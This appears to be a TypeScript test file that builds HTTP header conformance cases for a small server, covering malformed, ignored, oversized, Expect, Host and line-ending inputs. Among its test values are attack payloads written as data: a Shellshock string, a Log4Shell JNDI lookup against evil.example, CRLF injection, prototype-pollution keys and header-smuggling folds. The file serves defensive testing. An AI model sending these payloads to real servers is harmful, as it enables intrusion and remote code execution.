import { credentials, key, message, request, row, show, utf8, type Row } from './row.ts'

const controls = Array.from({ length: 32 }, (_control, code) => String.fromCharCode(code))
  .filter((control) => !'\t\n\r'.includes(control))
  .concat('\x7f')

/** Lines that are no header. */
const malformed = [
  [': x', 'x', ' x: y', '\tx: y', 'x y: z', 'x : y', 'x\t: y', '(x): y', 'x@y: z', 'x,y: z', 'x/y: z', '[x]: y'],
  ['{x}: y'],
  ['"x": y', 'x=y: z', 'x?: y', 'x\\y: z', '<x>: y', 'x\0: y', '\0: y', 'x\x7f: y', '\xe9: y', `${utf8('Ł')}: y`],
  [';: y'],
  ['x: a\rb', 'x: a\r\rb', '\rx: y', 'x\r: y', 'x: y\r', 'x\n: y'],
  controls.flatMap((control) => [`x: a${control}b`, `x${control}y: z`]),
].flat()

/** Headers that mean nothing here, or that another server would follow: the answer is as without. */
const ignored = [
  ['__proto__: x', 'constructor: x', 'hasOwnProperty: x', 'toString: x', '__proto__: {"polluted":1}', 'prototype: x'],
  ['Content-Type: ', 'Content-Type: /', 'Content-Type: text/html', 'Content-Type: ;;;', 'Content-Type: \xff'],
  ['Content-Type: x'],
  ['Accept: ', 'Accept: image/png', 'Accept: */*;q=nan', 'Accept-Encoding: gzip, br, *;q=0', 'Accept-Charset: utf-7'],
  ['Range: bytes=0-0', 'Range: bytes=-1', 'If-Match: "x"', 'If-None-Match: *', 'If-Modified-Since: x', 'If-Range: x'],
  ['X-HTTP-Method-Override: DELETE', 'X-Method-Override: PUT', 'X-Original-URL: /users/me'],
  ['X-Rewrite-URL: /users/me'],
  ['X-Forwarded-For: ::1', 'X-Forwarded-For: a, b, \xff', 'X-Forwarded-Host: evil.example', 'X-Forwarded-Proto: x'],
  [`X-Forwarded-For: ${'1.1.1.1, '.repeat(1000)}`, 'X-Real-IP: ', 'Forwarded: for=\xff', 'Via: 1.1 kss'],
  ['Max-Forwards: 0'],
  ['Upgrade: websocket', 'Upgrade: h2c', 'Upgrade: HTTP/9.9, TLS/1.0', 'Upgrade: \xff'],
  ['HTTP2-Settings: AAMAAABkAAQAAP__'],
  [
    'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13',
  ],
  ['Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk', 'Connection: Upgrade'],
  ['Connection: '],
  ['Connection: x-auth-user, x-auth-key', 'Connection: keep-alive, close', 'Connection: close, close'],
  ['Connection: \xff'],
  ['Keep-Alive: timeout=99999999', 'Keep-Alive: max=-1', 'Proxy-Connection: keep-alive', 'TE: trailers'],
  ['Trailer: Host'],
  ['Cookie: a=b; __proto__=c', `Cookie: ${'a=b; '.repeat(2000)}`, 'Origin: null', 'Origin: http://evil.example'],
  ['Origin: \xff'],
  ['Access-Control-Request-Method: DELETE', 'Access-Control-Request-Headers: *'],
  ['Access-Control-Request-Private-Network: x'],
  ['Content-Encoding: gzip', 'Content-Encoding: br, gzip', 'Content-MD5: x', 'Date: x', 'From: \xff'],
  ['Referer: \xff'],
  ['User-Agent: () { :; }; echo x', 'User-Agent: ${jndi:ldap://evil.example/a}', `User-Agent: ${'x'.repeat(15_000)}`],
  ['Request-Id: a\tb', 'X-Request-Id: %0d%0ax: y', 'Traceparent: x', 'Sec-Fetch-Site: cross-site'],
  [`${'x'.repeat(15_000)}: y`],
  ['X: \xff\xfe', 'X: \x80', 'X: ', 'X:', 'X:\t\ty\t', `X:${' '.repeat(17_000)}y`, 'x-auth-user-: y'],
  ['Proxy-Authorization: Basic !', 'Authorization: x'],
  // RFC 9112 §3.2 asks for a 400 of a Host that is there twice or is none; kss has one site and never looks at it.
  ['Host: kss', 'Host: evil.example', 'Host: ', 'Host: a b', 'Host: \xff', `Host: ${'x'.repeat(10_000)}`],
  ['Host: a@b:c/d'],
].flat()

const tooLarge = [
  [`x: ${'y'.repeat(17_000)}`, `${'x'.repeat(17_000)}: y`, `x-auth-user: ${'x'.repeat(17_000)}`],
  [`Cookie: ${'a=b; '.repeat(4000)}`, 'x: yyyyyyyy\r\n'.repeat(2000) + 'x: y'],
  [`Authorization: Basic ${'YW5u'.repeat(5000)}`],
  `Host: ${'x'.repeat(17_000)}`,
].flat()

export function headerRows(): Row[] {
  const send = (header: string): string => request('GET /users/auth', [...credentials, header])
  return [
    ...malformed.map((header) => row(`header ${show(header)}`, '400 400', send(header))),
    ...ignored.map((header) => row(`header ${show(header)}`, '200', send(header))),
    ...tooLarge.map((header) => row(`header ${show(header)}`, '431 431', send(header))),
    ...expectationRows(),
    ...hostRows(),
    ...lineEndRows(),
  ]
}

function expectationRows(): Row[] {
  const bad = ['200-ok', '', 'x', '100', '101-upgrade', '\xff', '*', '100-continued', '1100-continue']
  return [
    ...bad.map((value) =>
      row(`Expect: ${show(value)}`, '417 417', request('GET /users/auth', [...credentials, `Expect: ${value}`])),
    ),
    row('100-continue for no body', '100, 200', request('GET /users/auth', [...credentials, 'Expect: 100-continue'])),
    row(
      '100-continue for a body that is not there',
      '100, 400 103',
      request('POST /users/create', ['Expect: 100-continue', 'Content-Length: 0']),
    ),
    row(
      '100-continue for a body that is too large',
      '100, 413 413',
      request('POST /users/create', ['Expect: 100-continue', 'Content-Length: 16385']),
    ),
    row('100-continue of nobody', '100, 401 2001', request('PUT /syncs/progress', ['Expect: 100-continue'], '{}')),
  ]
}

function hostRows(): Row[] {
  const lines = [
    'GET /healthcheck',
    'GET /nope',
    'PUT /syncs/progress',
    'GET http://kss/healthcheck',
    'OPTIONS /users/auth',
  ]
  return [
    ...lines.map((line) => row(`${line} without Host`, '400 400', message(`${line} HTTP/1.1`, credentials))),
    row('HTTP/1.0 without Host', '200', message('GET /healthcheck HTTP/1.0')),
    row('HTTP/1.0 that wants to stay', '200', message('GET /healthcheck HTTP/1.0', ['Connection: keep-alive'])),
  ]
}

/** Lines that end in something else, or are folded (RFC 9112 §5.2). */
function lineEndRows(): Row[] {
  const lines = ['GET /users/auth HTTP/1.1', 'Host: kss', `x-auth-user: ann`, `x-auth-key: ${key}`, '', '']
  const fold = (header: string): string => request('GET /users/auth', [...credentials, header])
  return [
    ...['\n', '\r', '\n\r', '\r\r\n', '\0', '\v', '\x85', '\u2028'.slice(1), '\r\0\n'].map((end) =>
      row(`lines end in ${show(end)}`, '400 400', lines.join(end)),
    ),
    row('the first line ends in LF', '400 400', lines.join('\r\n').replace('\r\n', '\n')),
    row('the last line ends in LF', '400 400', `${lines.slice(0, -1).join('\r\n')}\n`),
    row('a folded header', '400 400', fold('x: a\r\n b')),
    row('a header folded with a tab', '400 400', fold('x: a\r\n\tb')),
    row('a folded first header', '400 400', 'GET /healthcheck HTTP/1.1\r\n Host: kss\r\n\r\n'),
    row('a folded user', '400 400', request('GET /users/auth', ['x-auth-user: a\r\n nn', `x-auth-key: ${key}`])),
    row('a line of blanks', '400 400', fold('  ')),
    row('empty lines first', '200', `\r\n\r\n\r\n${request('GET /healthcheck')}`),
    row('nothing but empty lines', 'nothing', '\r\n'.repeat(100)),
  ]
}
